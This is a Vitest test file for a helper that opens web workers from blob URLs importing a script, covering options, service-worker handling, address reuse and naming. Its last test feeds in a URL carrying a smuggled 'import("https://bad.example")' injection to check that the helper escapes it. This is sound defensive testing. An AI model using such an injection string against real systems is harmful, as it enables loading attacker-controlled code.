import { resolveObjectURL } from 'node:buffer';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { openWorker } from './openWorker';

const opened: { readonly address: string; readonly options: WorkerOptions }[] = [];

beforeEach(() => {
  opened.length = 0;
  const FakeWorker = class {
    constructor(address: string, options: WorkerOptions) {
      opened.push({ address, options });
    }
  };
  vi.stubGlobal('Worker', FakeWorker);
});
afterEach(() => vi.unstubAllGlobals());

const sourceOf = (address = '') => resolveObjectURL(address)?.text();

describe('a worker', () => {
  it('is opened from a blob that imports its script, so that it has the page’s policy', async () => {
    openWorker('https://host.example/assets/umap.js', 'layout');
    expect(opened[0]?.options).toEqual({ type: 'module', name: 'layout' });
    expect(await sourceOf(opened[0]?.address)).toBe('import "https://host.example/assets/umap.js";');
  });

  it('is opened by the address of its script if the service worker answers, which adds the policy', () => {
    vi.stubGlobal('document', { baseURI: 'https://host.example/' });
    const answeredBy = (scriptURL: string) =>
      vi.stubGlobal('navigator', { serviceWorker: { controller: { scriptURL } } });
    answeredBy('https://host.example/serviceWorker.js');
    openWorker('https://host.example/assets/umap.js');
    expect(opened[0]?.address).toBe('https://host.example/assets/umap.js');
    answeredBy('https://host.example/of-another-page.js');
    openWorker('https://host.example/assets/umap.js');
    expect(opened[1]?.address).toMatch(/^blob:/);
  });

  it('has an address that stays the same, so that many workers need little memory', () => {
    for (const script of ['/helper.js', '/helper.js', '/pca.js']) openWorker(script);
    const [first, second, other] = opened.map(({ address }) => address);
    expect(second).toBe(first);
    expect(other).not.toBe(first);
  });

  it('has the name of its script if it is given none', () => {
    openWorker('./assets/pca.worker-1a2b3c4d.js');
    expect(opened[0]?.options.name).toBe('pca');
  });

  it('can be opened by the address of another worker', () => {
    openWorker('/helper.js');
    const first = opened[0]?.address ?? '';
    openWorker(first);
    expect(opened[1]?.address).toBe(first);
  });

  it('imports the script that was meant, whatever its name', async () => {
    openWorker('https://host.example/a"; import("https://bad.example")/b.js');
    const source = await sourceOf(opened[0]?.address);
    expect(source).toBe('import "https://host.example/a%22;%20import(%22https://bad.example%22)/b.js";');
  });
});
